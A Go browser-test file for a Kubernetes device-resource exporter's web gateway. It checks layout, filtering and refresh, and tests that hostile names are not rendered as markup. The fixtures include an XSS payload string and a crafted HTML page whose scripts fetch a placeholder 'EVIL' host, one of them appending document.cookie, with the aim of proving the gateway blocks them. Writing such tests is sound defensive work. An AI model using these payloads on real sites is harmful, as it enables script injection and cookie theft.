package page

import (
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/prometheus/client_golang/prometheus"
	authorizationv1 "k8s.io/api/authorization/v1"

	"github.com/dra-exporter/dra-exporter/driver"
	"github.com/dra-exporter/dra-exporter/exporter/exposition"
	"github.com/dra-exporter/dra-exporter/exporter/join"
	"github.com/dra-exporter/dra-exporter/exporter/join/jointest"
	"github.com/dra-exporter/dra-exporter/exporter/ledger"
	"github.com/dra-exporter/dra-exporter/exporter/present"
	"github.com/dra-exporter/dra-exporter/exporter/web"
	"github.com/dra-exporter/dra-exporter/podresources"
	"github.com/dra-exporter/dra-exporter/podresources/kube/kubetest"
	"github.com/dra-exporter/dra-exporter/test/live"
	"github.com/dra-exporter/dra-exporter/test/must"
	"github.com/dra-exporter/dra-exporter/test/simnode"
)

// startGateway starts a gateway for the exporter at an address. The user lead may see everything,
// and alice may get the claims of the namespace research.
func startGateway(t *testing.T, exporter string) (api *kubetest.Server, gateway *live.Program) {
	api, kubeconfig := kubetest.New(t)
	api.Allow("lead", func(authorizationv1.SubjectAccessReviewSpec) bool { return true })
	api.Allow("alice", func(s authorizationv1.SubjectAccessReviewSpec) bool {
		return s.ResourceAttributes != nil && s.ResourceAttributes.Namespace == "research"
	})
	addNode(t, api, simnode.Name, exporter)
	return api, live.Launch(t, exec.Command(os.Getenv("DRA_EXPORTER"), "gateway", "--kubeconfig="+kubeconfig,
		"--exporter.namespace=dra", "--proxy.loopback", "--web.listen-address=127.0.0.1:0"))
}

// addNode adds an exporter of a node to the API server.
func addNode(t *testing.T, api *kubetest.Server, node, exporter string) {
	t.Helper()
	at := must.Get(url.Parse(exporter))(t)
	host, port, err := net.SplitHostPort(at.Host)
	if err != nil {
		t.Fatal(err)
	}
	api.Put(kubetest.Endpoints, fmt.Appendf(nil, `{"metadata":{"namespace":"dra","name":%q,"labels":
		{"kubernetes.io/service-name":"dra-exporter"}},"addressType":"IPv4","ports":[{"name":"metrics","port":%s}],
		"endpoints":[{"nodeName":%q,"addresses":[%q],"targetRef":{"kind":"Pod","name":"p"}}]}`, node, port, node, host))
}

// testGateway opens the page of the cluster: the demo's node, a node without claims, a node that
// changes, and a node that does not answer. Problems come first. Rows change in place, and rows
// that the user opened, marked or filtered stay so.
func testGateway(t *testing.T, browser browser, demo string) {
	api, gateway := startGateway(t, demo)
	var claims atomic.Int64
	claims.Store(1)
	fake := func(name string, summary func() string) {
		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			_, _ = io.WriteString(w, summary())
		}))
		t.Cleanup(server.Close)
		addNode(t, api, name, server.URL)
	}
	fake("a-free", func() string { return `{"node":"a-free","devices":{"free":8},"claims":[],"incidents":[]}` })
	fake("b-changes", func() string {
		var of []string
		for i := range claims.Load() {
			of = append(of, fmt.Sprintf(`{"namespace":"team-long-name","name":"pretraining-of-a-large-model-%d-gpus",`+
				`"state":"quiet","devices":4,"pods":["pretraining-of-a-large-model-worker-%d"]}`, i, i))
		}
		return fmt.Sprintf(`{"node":"b-changes","devices":{"quiet":4,"active":4},"claims":[%s],"incidents":[]}`,
			strings.Join(of, ","))
	})
	fake("c-broken", func() string { return `{}` + "<" })

	address := "http://" + gateway.Address + "/"
	b := browser.open(t, address, view{width: 500, height: 1000, user: "lead"})
	row := func(name string) string { return fmt.Sprintf(`document.querySelector('tr[data-node=%q]')`, name) }
	b.await("all nodes", `document.querySelectorAll('#nodes tr').length === 4 && `+
		row(simnode.Name)+`.textContent.includes('1 unhealthy') && `+row("c-broken")+`.textContent.includes('answer')`)
	b.picture("cluster-narrow")
	b.checkWidth()
	const names = `[...document.querySelectorAll('#nodes tr:not([hidden])')].map((r) => r.dataset.node)`
	want := []string{simnode.Name, "c-broken", "b-changes", "a-free"}
	if got := value[[]string](b, names); !slices.Equal(got, want) {
		t.Errorf("the nodes are %v, want %v", got, want)
	}
	if first := value[string](b, row(simnode.Name)+`.cells[1].innerText`); !strings.HasPrefix(first, "1 unhealthy") {
		t.Errorf("the devices of the demo's node are %q: the unhealthy one is not first", first)
	}

	value[bool](b, `(() => {
		`+row("a-free")+`.mark = 'mine';
		`+row("b-changes")+`.querySelector('details').open = true;
		const filter = document.getElementById('filter');
		filter.focus();
		return true;
	})()`)
	b.write("TEAM-LONG quiet")
	b.await("filtered", `JSON.stringify(`+names+`) === '["b-changes"]'`)
	b.picture("cluster-filtered")
	claims.Store(3)
	b.await("the new claims", row("b-changes")+`.textContent.includes('model-2-gpus')`)
	for what, is := range map[string]string{
		"the list of claims is closed":          row("b-changes") + `.querySelector('details').open`,
		"a row that did not change is replaced": row("a-free") + `.mark === 'mine'`,
		"the filter is forgotten":               `JSON.stringify(` + names + `) === '["b-changes"]'`,
		"the focus is lost":                     `document.activeElement.id === 'filter'`,
	} {
		if !value[bool](b, is) {
			t.Errorf("after a refresh %s", what)
		}
	}
	wide := browser.open(t, address, view{width: 1300, height: 1000, user: "lead", dark: true})
	wide.await("all nodes", `document.querySelectorAll('#nodes tr').length === 4`)
	wide.picture("cluster-wide")
	wide.checkWidth()
	plain := browser.open(t, address, view{width: 1300, height: 1000, user: "lead", noScript: true})
	if !value[bool](plain, `document.querySelectorAll('#nodes tr').length === 4 &&
		document.getElementById('controls').hidden && document.querySelector('noscript meta[http-equiv=refresh]') !== null`) {
		t.Error("without JavaScript the page has not all nodes, has a filter, or does not refresh itself")
	}

	b.expectErrors, wide.expectErrors = true, true
	gateway.Stop()
	b.await("stale", `/^Stale for \d+ s: /.test(document.getElementById('status').textContent)`)
	if got := value[int](b, `document.querySelectorAll('#nodes tr').length`); got != 4 {
		t.Errorf("%d nodes are shown after the gateway ended", got)
	}
}

// testHostile shows names that would run scripts if they became markup.
func testHostile(t *testing.T, browser browser) {
	const hostile = `"'><img src=x onerror=document.title='run'><script>document.title='run'</script>&amp;%2F#`
	start := time.Unix(1_800_000_000, 0)
	id := driver.ID{Driver: "gpu.example.com", Pool: "node1", Device: hostile}
	in := join.Input{
		Inventory: driver.Inventory{id: {
			Hardware: driver.Hardware{UUID: hostile, Model: hostile},
			Taints:   []driver.Taint{{Key: hostile, Effect: "NoExecute", Rule: hostile}},
		}},
		View: podresources.View{At: start, Allocations: jointest.Held(podresources.Allocation{
			Claim: podresources.Claim{Namespace: "team", Name: hostile}, Device: id,
			Holders: []podresources.Holder{{Pod: podresources.Pod{Namespace: "team", Name: hostile}, Container: hostile}},
		})},
	}
	books := ledger.New(ledger.Config{Retention: time.Minute})
	snapshot := exposition.NewLimiter(0, nil).Apply(books, books.Advance(join.Join(in), start))
	latest := func() *exposition.Snapshot { return snapshot }
	handler := web.NewHandler(web.Config{
		Metrics: exposition.New(prometheus.NewRegistry(), latest, exposition.Config{}), Latest: latest, Node: hostile,
		MetricsPath: "/metrics", Scrapes: &web.Scrapes{}, QuietAfter: time.Minute, Log: slog.New(slog.DiscardHandler),
		Sources: func() []present.Source { return []present.Source{{Name: hostile, Down: driver.ReasonForbidden}} },
	})
	server := httptest.NewServer(web.NewServer(web.ServerConfig{Handler: handler, Log: slog.DiscardHandler}).Handler)
	t.Cleanup(server.Close)

	b := browser.open(t, server.URL, view{width: 1300, height: 900})
	b.await("shown", `document.querySelector('#controls').hidden === false && `+rows("devices")+`.length === 1`)
	value[bool](b, `document.querySelector('#devices tbody a').click() || true`)
	b.await("a dialog", `document.querySelector('dialog').open`)
	b.picture("hostile")
	// The click is before the event that the dialog was closed.
	value[bool](b, `document.querySelector('dialog').close() || document.querySelector('#claims tbody a').click() || true`)
	b.await("details of the claim", `Boolean(document.querySelector('dialog h2')?.textContent.startsWith('Claim team/'))`)
	if shown := value[string](b, `document.querySelector('dialog h2').textContent`); shown != "Claim team/"+hostile {
		t.Errorf("the claim's name is %s", shown)
	}
	testLateAnswer(b)
	if value[bool](b, `document.images.length > 0 || document.scripts.length !== 1 || document.title === 'run'`) {
		t.Error("a name became markup")
	}
}

// testLateAnswer delays the details of the device until those of the claim are shown. The details
// of the claim must stay.
func testLateAnswer(b *tab) {
	b.t.Helper()
	value[bool](b, `(() => {
		const ask = window.fetch;
		window.late = {};
		window.fetch = async (to, options) => {
			const answer = await ask(to, options);
			if (!String(to).startsWith('page/detail?device=')) return answer;
			await new Promise((resolve) => { late.answer = resolve; });
			const text = await answer.text();
			return { text: async () => { setTimeout(() => { late.read = true; }); return text; } };
		};
		document.querySelector('#devices tbody a').click();
		return true;
	})()`)
	b.await("the answer is held back", `Boolean(late.answer)`)
	value[bool](b, `document.querySelector('#claims tbody a').click() || true`)
	b.await("details of the claim", `document.querySelector('dialog').open &&
		document.querySelector('dialog h2').textContent.startsWith('Claim team/')`)
	value[bool](b, `late.answer() || true`)
	b.await("the answer is read", `Boolean(late.read)`)
	shown := value[string](b, `document.querySelector('dialog h2').textContent`)
	if !strings.HasPrefix(shown, "Claim team/") {
		b.t.Errorf("an answer of before shows %s", shown)
	}
}

// hostilePage asks for addresses below EVIL, by itself or if it is clicked.
const hostilePage = `<!doctype html><title>node</title><meta http-equiv="refresh" content="0;url=EVIL/refresh">
	<link rel="stylesheet" href="EVIL/style"><body onload="fetch('EVIL/onload')"><img src="EVIL/image">
	<script>document.title = 'run'; fetch('EVIL/script?' + document.cookie)</script><script src="EVIL/source"></script>
	<svg onload="fetch('EVIL/svg')"></svg><iframe src="EVIL/frame"></iframe>
	<form action="EVIL/form" target="_top"><button>a</button></form><a href="javascript:void fetch('EVIL/link')">b</a>`

// hostileRows is the page's JSON, of which all texts are TEXT.
const hostileRows = `{"node":"node","version":TEXT,"time":TEXT,"wrong":[{"text":TEXT,"class":TEXT,"devices":[TEXT]}],
	"sums":[{"name":TEXT,"text":TEXT}],"tiles":[{"count":1,"state":TEXT,"meaning":TEXT,"class":TEXT}],
	"everywhere":[{"pods":TEXT,"claim":TEXT,"label":TEXT,"part":TEXT}],
	"troubles":[{"source":TEXT,"reason":TEXT,"do":TEXT}],"devices":[{"driver":TEXT,"pool":TEXT,"device":TEXT,"id":TEXT,
	"model":TEXT,"state":TEXT,"class":TEXT,"why":TEXT,"marks":[{"name":TEXT,"what":TEXT,"class":TEXT}],
	"holders":[{"pods":TEXT,"claim":TEXT,"label":TEXT}],"trend":TEXT,"power":[TEXT,1],"quiet":[TEXT,1]}],
	"claims":[{"driver":TEXT,"pool":TEXT,"device":TEXT,"namespace":TEXT,"name":TEXT,"state":TEXT,"stalled":TEXT,
	"quiet":[TEXT,1],"utilization":[TEXT,1],"held":[TEXT,1],"active":[TEXT,1],"trend":TEXT}],"pods":[],
	"incidents":[{"id":TEXT,"state":TEXT,"class":TEXT,"text":TEXT,"since":[TEXT,1],"for":[TEXT,1],"last":[TEXT,1],
	"hit":TEXT,"lines":[TEXT],"mark":TEXT}]}`

// hostileDetail is the JSON of details, of which all texts are TEXT.
const hostileDetail = `{"Node":TEXT,"Title":TEXT,"Time":TEXT,"Sections":[{"Title":TEXT,"Head":[TEXT],
	"Rows":[[{"Text":TEXT,"Device":TEXT,"Class":TEXT}]]}],
	"Charts":[{"Title":TEXT,"Charts":[{"Name":TEXT,"Lines":[TEXT]}]}]}`

// testHostileNode opens a hostile page of a node: from the node itself, where it does all it wants,
// and through the gateway, which lays out what the node says, and where it does nothing.
func testHostileNode(t *testing.T, browser browser) {
	var mu sync.Mutex
	asked, cookies := map[string][]string{}, map[string][]string{} // by the host that was asked for
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		cookies[r.Host] = append(cookies[r.Host], r.Header.Get("Cookie"))
		if path, ok := strings.CutPrefix(r.URL.Path, "/evil/"); ok {
			asked[r.Host] = append(asked[r.Host], path)
			w.WriteHeader(http.StatusNoContent) // the browser stays where it is
			return
		}
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Set-Cookie", "evil=1")
		page := strings.ReplaceAll(hostilePage, "EVIL", "http://"+r.Host+"/evil")
		text, _ := json.Marshal(page)
		switch r.URL.Path {
		case "/page/rows":
			w.Header().Set("Content-Type", "application/json")
			page = strings.ReplaceAll(hostileRows, "TEXT", string(text))
		case "/page/detail":
			page = strings.ReplaceAll(hostileDetail, "TEXT", string(text))
		}
		_, _ = io.WriteString(w, page)
	}))
	t.Cleanup(server.Close)

	host := server.Listener.Addr().String()
	other := strings.Replace(host, "127.0.0.1", "localhost", 1)
	direct := browser.open(t, "http://"+other, view{width: 1300, height: 900})
	direct.expectErrors = true
	click := func(b *tab, what string) {
		value[bool](b, `document.querySelectorAll('`+what+`').forEach((e) => e.click()) ?? true`)
	}
	lacks := func(wanted string) error {
		mu.Lock()
		defer mu.Unlock()
		for want := range strings.FieldsSeq(wanted) {
			if !slices.Contains(asked[other], want) {
				return fmt.Errorf("%s is not in %q", want, asked[other])
			}
		}
		return nil
	}
	live.Await(t, limit, "the page does what it wants by itself", func() error { // which a click may stop
		return lacks("refresh style onload image script source svg frame")
	})
	live.Await(t, limit, "the page does what it wants", func() error {
		click(direct, []string{"a", "button"}[rand.N(2)]) // a form that is being sent stops a link
		return lacks("form link")
	})

	_, gateway := startGateway(t, server.URL)
	address := "http://" + gateway.Address + "/"
	b := browser.open(t, address, view{width: 1300, height: 900, user: "lead"})
	b.expectErrors = true // lines of charts that are no numbers
	value[bool](b, `Boolean(document.cookie = 'session=secret')`)
	address += "node/" + simnode.Name + "/"
	b.do(chromedp.Navigate(address))
	b.picture("hostile-node")
	b.await("some time later", `performance.now() > 2000`)
	b.await("the rows", `Boolean(document.querySelector('#tiles button')?.textContent.includes('<meta'))`)
	click(b, "main a, main button") // this would stop what the page does by itself
	b.await("the details", `Boolean(document.querySelector('dialog h2')?.textContent.includes('<meta'))`)
	b.await("some time later", `performance.now() > 4000`)
	const want = "node · dra-exporter session=secret "
	const shown = `document.title + ' ' + document.cookie + ' ' + location.origin + location.pathname`
	if got := value[string](b, shown); got != want+address {
		t.Errorf("the title, cookies and address are %q, want %q", got, want+address)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(asked[host]) > 0 || len(cookies[host]) == 0 || strings.Join(cookies[host], "") != "" {
		t.Errorf("the page asked for %q, and the node received the cookies %q", asked[host], cookies[host])
	}
}
